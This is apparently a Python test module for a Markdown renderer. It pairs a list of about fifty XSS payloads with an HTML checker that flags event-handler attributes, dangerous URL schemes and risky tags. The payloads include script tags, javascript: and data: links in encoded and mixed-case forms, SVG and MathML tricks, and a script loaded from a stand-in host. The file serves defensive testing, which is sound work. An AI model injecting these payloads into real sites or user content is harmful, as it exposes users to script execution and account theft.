"""Markdown/HTML XSS payloads and a checker for rendered pages (server and browser).

Every payload tries to run script (an alert, or a marker the browser test looks
for) through the Markdown renderer: raw tags, on* attributes, dangerous URL
schemes (plain, mixed case, entity-encoded, with whitespace), SVG/MathML, iframes,
styles, and Markdown constructs wrapped around HTML.
"""

from html.parser import HTMLParser

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=\"document.body.dataset.xss='img'\">",
    "<svg onload=alert(1)>",
    "<svg><script>window.__xss='svg-script'</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="15">svg</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<iframe src="javascript:alert(1)"></iframe>',
    "<iframe srcdoc=\"<script>parent.__xss='iframe'</script>\"></iframe>",
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    '<p onclick="alert(1)">click me</p>',
    '<a href="https://ok.example" onmouseover="alert(1)">hover</a>',
    '<a href="javascript:alert(1)">raw html link</a>',
    '<a href="&#x6A;avascript:alert(1)">entity link</a>',
    '<a href="jav&#x09;ascript:alert(1)">tab link</a>',
    "[md link](javascript:alert(1))",
    "[mixed case](JaVaScRiPt:alert(1))",
    "[entity](&#106;avascript:alert(1))",
    "[colon entity](javascript&#58;alert(1))",
    "[angle](<javascript:alert(1)>)",
    "[paren entity](javascript:alert&#40;1&#41;)",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[vbscript](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "[ref][evil]\n\n[evil]: javascript:alert(1)",
    "![image](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    '[title](https://ok.example "a\\" onmouseover=\\"alert(1)")',
    '<div style="background:url(javascript:alert(1))">styled</div>',
    "<style>body{background:url('javascript:alert(1)')}</style>",
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    "<template><script>alert(1)</script></template>",
    "**<img src=x onerror=alert(1)>**",
    "> <svg/onload=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "- item <script>window.__xss='list'</script>",
    "`<script>alert(1)</script>` in a code span",
    "```html\n<script>alert(1)</script>\n```",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '<a href="data:text/html,<script>alert(1)</script>">data link</a>',
    "<img src=\"data:image/svg+xml,<svg onload='alert(1)'>\">",
    '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
]

# Schemes that must never reach a URL attribute.
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "srcdoc"}
# Elements a payload must never produce inside the page's <main>.
BAD_TAGS = {"iframe", "object", "embed", "svg", "math", "style", "base", "meta",
            "link", "template", "video", "audio", "source", "noscript"}  # fmt: skip


class _Collector(HTMLParser):
    def __init__(self, *, fragment: bool):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.in_main = fragment

    def handle_starttag(self, tag, attrs):
        if tag == "main":
            self.in_main = True
        attrs = [(name.lower(), value or "") for name, value in attrs]
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=...>")
            if name == "style":
                self.problems.append(f"<{tag} style=...>")
            if name in URL_ATTRIBUTES:
                compact = "".join(ch for ch in value if ch > " ").lower()
                if compact.startswith(BAD_SCHEMES):
                    self.problems.append(f"<{tag} {name}={value!r}>")
        if tag == "script" and not dict(attrs).get("src", "").startswith("/static/"):
            self.problems.append("<script> without a static src")
        if self.in_main and tag in BAD_TAGS:
            self.problems.append(f"<{tag}> inside <main>")

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag):
        if tag == "main":
            self.in_main = False


def unsafe_markup(html: str, *, fragment: bool = False) -> list[str]:
    """What in ``html`` could run script: empty for a safe page."""
    collector = _Collector(fragment=fragment)
    collector.feed(html)
    collector.close()
    return collector.problems
